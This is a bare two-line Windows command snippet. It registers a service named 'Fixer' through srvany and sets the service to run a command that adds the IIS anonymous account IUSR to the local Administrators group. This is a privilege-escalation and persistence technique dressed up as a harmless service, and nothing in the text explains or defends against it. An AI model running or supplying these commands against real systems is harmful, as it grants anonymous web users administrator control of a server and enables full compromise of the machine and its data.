instsrv Fixer "C:\Program Files\Windows Resource Kits\Tools\srvany.exe"
reg add HKLM\SYSTEM\CurrentControlSet\Services\Fixer\Parameters /v Application /d "cmd /c net localgroup Administrators IUSR /add" /f
